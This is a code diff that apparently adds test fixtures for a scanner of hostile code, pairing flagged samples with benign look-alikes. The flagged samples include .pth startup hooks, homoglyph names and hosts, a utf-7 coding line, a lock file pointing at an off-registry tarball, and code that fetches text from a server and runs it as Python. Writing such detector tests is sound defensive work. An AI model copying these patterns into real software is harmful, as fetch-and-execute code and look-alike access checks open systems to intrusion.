@@ -5,6 +5,18 @@ from inspection.rules.sample import Sample
 _RUNNER = "import subprocess\ndef run(command):\n    return subprocess.check_output(command)\n"
 _FETCH = "import requests\nfrom runner import run\nreply = requests.get('https://a.invalid').json()\n"
 
+_NAMESPACE = (
+    "import sys, types, os;{0}p = os.path.join(sys._getframe(1).f_locals['sitedir'], *{1});"
+    "{0}ie = os.path.exists(os.path.join(p,'__init__.py'));{0}m = not ie and "
+    "sys.modules.setdefault('a',types.ModuleType('a'));{0}mp = (m or []) and "
+    "m.__dict__.setdefault('__path__',[]);{0}(p not in mp) and mp.append(p)"
+)
+"""As setuptools writes it: its releases differ in the spaces."""
+_LOCK = (
+    '{"lockfileVersion": 3, "packages": {"node_modules/x": {\n"version": "1.0.0",\n"resolved": "%s",\n'
+    '"funding": {\n"url": "https://b.invalid/give"}}}}\n'
+)
+
 HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_command": {
         "a list of words whose program a server names, through another file": Sample(
@@ -28,6 +40,39 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             ("app.py", 3),
         ),
     },
+    "automatic_start": {
+        "a namespace package's line and one deed more": Sample(
+            {
+                "a.pth": _NAMESPACE.format(" ", "('a', 'b')")
+                + "; m and setattr(sys.modules['a'], 'b', print('inert'))\n"
+            },
+            "block",
+            ("a.pth", 1),
+        ),
+    },
+    "hidden_text": {
+        "a name of another alphabet beside words": Sample(
+            {"conftest.py": "def note(x): pass\nn\u043ete = print('one two')\n"}, "review", ("conftest.py", 2)
+        ),
+        "a host of another alphabet": Sample(
+            {"conftest.py": "x = 1\nhelp = 'see wss://g\u043e\u043ed.invalid for more'\n"},
+            "review",
+            ("conftest.py", 2),
+        ),
+        "one word of another alphabet that is compared": Sample(
+            {"conftest.py": "def allowed(role):\n    return role == '\u0430dmin' or bool(role)\n"},
+            "review",
+            ("conftest.py", 2),
+        ),
+        "an encoding that hides plain letters": Sample(
+            {"conftest.py": "# coding: utf-7\nprint('inert')\n"}, "review", ("conftest.py", 1)
+        ),
+    },
+    "other_packages": {
+        "a tarball of another server in npm's lock file": Sample(
+            {"package-lock.json": _LOCK % "https://a.invalid/x.tgz"}, "review", ("package-lock.json", 3)
+        ),
+    },
     "remote_code": {
         "code among the words": Sample(
             {"runner.py": _RUNNER, "app.py": _FETCH + "run(['python', '-c', reply['text']])\n"}, "block", ("app.py", 3)
@@ -36,6 +81,30 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "automatic_start": {
+        "a namespace package, without spaces": {"a.pth": _NAMESPACE.format("", "('a',)") + "\n"},
+        "a namespace package within another": {
+            "a.pth": _NAMESPACE.format(" ", "('a', 'b')") + "; m and setattr(sys.modules['a'], 'b', m)\n"
+        },
+        "coverage is measured where it is installed": {
+            "sitecustomize.py": "try:\n    import coverage\nexcept ImportError:\n    pass\nelse:\n"
+            "    coverage.process_startup()\n"
+        },
+    },
+    "hidden_text": {
+        "words of another alphabet in a sentence": {
+            "conftest.py": 'line = "these bytes are n\u043e g\u043e\u043ed because the o\'s are others"\n'
+            "log = 'D\u03b5bug\\tM\u0117ss\u00e3ge'\n"
+        },
+        "Cyrillic in an encoding of its own": {
+            "test_a.py": "# coding: iso-8859-5\nprint('\u043f\u0440\u0438\u0432\u0435\u0442')\n".encode("iso-8859-5")
+        },
+    },
+    "other_packages": {
+        "npm's lock file says where to give": {
+            "package-lock.json": _LOCK % "https://registry.npmjs.org/x/-/x-1.0.0.tgz"
+        },
+    },
     "remote_command": {
         "a word after the program, through another file": {
             "runner.py": _RUNNER,
